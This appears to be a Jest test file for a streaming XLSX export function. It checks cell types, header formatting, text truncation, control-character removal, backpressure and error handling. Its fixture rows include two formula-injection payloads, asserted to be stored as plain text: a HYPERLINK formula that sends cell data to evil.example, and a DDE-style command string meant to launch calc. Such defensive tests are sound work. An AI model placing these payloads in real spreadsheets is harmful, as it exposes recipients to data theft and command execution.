import { ValueType, Workbook } from 'exceljs';
import { Readable } from 'node:stream';
import { TableColumn } from './table';
import { XLSX_MAX_TEXT, xlsxStream } from './xlsx-writer';

interface Row {
  id: string;
  name: string;
  amount: number | string | null;
  on: string | null;
  at: Date;
  ok: boolean;
  nik: string;
}

const COLUMNS: TableColumn<Row>[] = [
  { key: 'id' },
  { key: 'name', header: 'Nama' },
  { key: 'amount', type: 'number' },
  { key: 'on', type: 'date' },
  { key: 'at', type: 'datetime' },
  { key: 'ok', type: 'boolean' },
  { key: 'nik' },
];

async function bytes(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

async function load(buffer: Buffer): Promise<Workbook> {
  const workbook = new Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Waits until `read()` stops changing (the writer is blocked), up to a generous bound. */
async function untilStable(read: () => number): Promise<number> {
  let last = -1;
  let same = 0;
  for (let i = 0; i < 400 && same < 10; i++) {
    await pause(10);
    const now = read();
    same = now === last ? same + 1 : 0;
    last = now;
  }
  return last;
}

describe('xlsxStream', () => {
  const at = new Date('2025-03-01T02:03:04.005Z');
  const rows: Row[] = [
    { id: '1', name: 'Siti Aminah', amount: 2_500_000, on: '2025-03-01', at, ok: true, nik: '3571014101900001' },
    {
      id: '2',
      name: '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
      amount: -5,
      on: null,
      at,
      ok: false,
      nik: '3571********0001',
    },
    { id: '3', name: "@SUM(1+1)*cmd|' /C calc'!A0", amount: '9007199254740993', on: null, at, ok: true, nik: '' },
    { id: '4', name: 'x'.repeat(XLSX_MAX_TEXT + 10), amount: null, on: null, at, ok: true, nik: 'a\u0001b' },
  ];

  it('round-trips: typed cells, a bold header, and formula-like text as plain strings, never formulas', async () => {
    const workbook = await load(await bytes(xlsxStream(COLUMNS, rows, 'Penerima [2025]')));
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe('Penerima  2025');
    expect(sheet.rowCount).toBe(5);
    expect(sheet.getRow(1).values).toEqual([undefined, 'id', 'Nama', 'amount', 'on', 'at', 'ok', 'nik']);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });

    const first = sheet.getRow(2);
    expect(first.getCell(3).type).toBe(ValueType.Number);
    expect(first.getCell(3).value).toBe(2_500_000);
    expect(first.getCell(4).type).toBe(ValueType.Date);
    expect((first.getCell(4).value as Date).toISOString()).toBe('2025-03-01T00:00:00.000Z');
    expect(first.getCell(4).numFmt).toBe('yyyy-mm-dd');
    expect(first.getCell(5).value).toBe('2025-03-01T02:03:04.005Z');
    expect(first.getCell(6).value).toBe(true);
    // A 16-digit NIK is text: as a number Excel would keep only 15 digits.
    expect(first.getCell(7).type).toBe(ValueType.String);
    expect(first.getCell(7).value).toBe('3571014101900001');

    for (const r of [2, 3]) {
      const cell = sheet.getRow(r + 1).getCell(2);
      expect(cell.type).toBe(ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(rows[r - 1].name);
    }
    expect(sheet.getRow(3).getCell(3).value).toBe(-5);
    // Too many digits for a spreadsheet number: kept exact as text.
    expect(sheet.getRow(4).getCell(3).value).toBe('9007199254740993');
    expect(sheet.getRow(4).getCell(7).value).toBeNull();
    expect((sheet.getRow(5).getCell(2).value as string).length).toBe(XLSX_MAX_TEXT);
    // Control characters XML cannot hold are dropped, not allowed to corrupt the file.
    expect(sheet.getRow(5).getCell(7).value).toBe('ab');
  });

  it('writes a valid workbook with only the header for no rows', async () => {
    const workbook = await load(await bytes(xlsxStream(COLUMNS, [])));
    expect(workbook.worksheets[0].rowCount).toBe(1);
    expect(workbook.worksheets[0].name).toBe('data');
  });

  it('stops pulling rows while nobody reads, and for good once the stream is destroyed', async () => {
    let pulled = 0;
    let finished = false;
    async function* many(): AsyncGenerator<Row> {
      try {
        for (let i = 0; i < 300_000; i++) {
          pulled++;
          yield { id: String(i), name: `Nama orang ke-${i}`, amount: i, on: '2025-01-01', at, ok: true, nik: '' };
        }
      } finally {
        finished = true;
      }
    }
    const stream = xlsxStream(COLUMNS, many());
    const stalled = await untilStable(() => pulled);
    // The zip pipeline holds a few 16 KiB buffers of compressed XML (tens of thousands of these very repetitive
    // rows), then the writer waits for the reader instead of pulling all 300,000.
    expect(stalled).toBeGreaterThan(0);
    expect(stalled).toBeLessThan(150_000);

    let received = 0;
    stream.on('data', (chunk: Buffer) => {
      received += chunk.length;
    });
    for (let i = 0; i < 1000 && pulled <= stalled + 5_000; i++) await pause(10);
    expect(pulled).toBeGreaterThan(stalled + 5_000);
    expect(received).toBeGreaterThan(0);

    stream.destroy();
    await untilStable(() => pulled);
    expect(finished).toBe(true);
    expect(pulled).toBeLessThan(300_000);
  });

  it('breaks the stream off when the rows fail midway', async () => {
    async function* failing(): AsyncGenerator<Row> {
      yield rows[0];
      throw new Error('database went away');
    }
    await expect(bytes(xlsxStream(COLUMNS, failing()))).rejects.toThrow('database went away');
  });
});
